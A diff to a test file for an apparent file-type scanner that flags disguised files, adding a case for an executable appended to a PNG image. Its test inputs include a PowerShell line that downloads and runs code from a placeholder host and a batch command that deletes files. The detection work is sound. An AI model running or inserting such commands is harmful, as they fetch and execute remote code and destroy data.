@@ -1,7 +1,9 @@
 import { readFileSync } from 'node:fs'
+import { join } from 'node:path'
 import { describe, expect, test } from '@jest/globals'
 import { contentType } from '../../src/read/content.js'
 import { fileFacts, packageFacts } from '../../src/read/file.js'
+import { factsOf } from '../../src/read/read.js'
 import { zip } from '../tooling/zip-writer.mjs'
 
 const latin = (text: string): Uint8Array => Buffer.from(text, 'latin1')
@@ -34,8 +36,16 @@ describe('a name that hides what a file is', () => {
     ['cache.tmp', Buffer.from(`\ufeff${SCRIPT}`, 'utf16le'), { type: 'powershell', named: 'unknown' }],
     ['one.txt', latin('IEX (New-Object Net.WebClient).DownloadString("http://x.invalid")'), { type: 'powershell', named: 'text' }],
     ['logo.jpg', archive, { type: 'zip', named: 'jpeg' }], ['logo.png', Buffer.concat([PNG, archive]), { type: 'png', appended: 'zip' }],
+    ['logo.png', Buffer.concat([PNG, readFileSync(join(import.meta.dirname, '../fixtures/binaries/hello-x86.exe'))]), { type: 'png', appended: 'pe' }],
     ['help.html', latin('@echo off\r\ndel *'), { type: 'batch', named: 'html' }],
   ])('%s', (path, bytes, content) => expect(contentType(bytes, path)).toEqual(content))
+
+  test('a program behind a picture is read', () => {
+    const bytes = Buffer.concat([PNG, readFileSync(join(import.meta.dirname, '../fixtures/binaries/hello-x86.exe'))])
+    const module = { name: 'X', version: '1', path: 'X', kind: 'module' as const, files: [{ path: 'logo.png', size: bytes.length, bytes: () => bytes }] }
+    const inside = [...factsOf(module)].flat().filter(({ at }) => at.file === 'logo.png!program')
+    expect(inside).toContainEqual(expect.objectContaining({ kind: 'component', layer: 'embedded', chain: ['appended'] }))
+  })
 
   test('is not every odd name', () => {
     for (const path of ['x.docx', 'x.dat', 'x.jar']) expect(contentType(archive, path)).toEqual({ type: 'zip' })
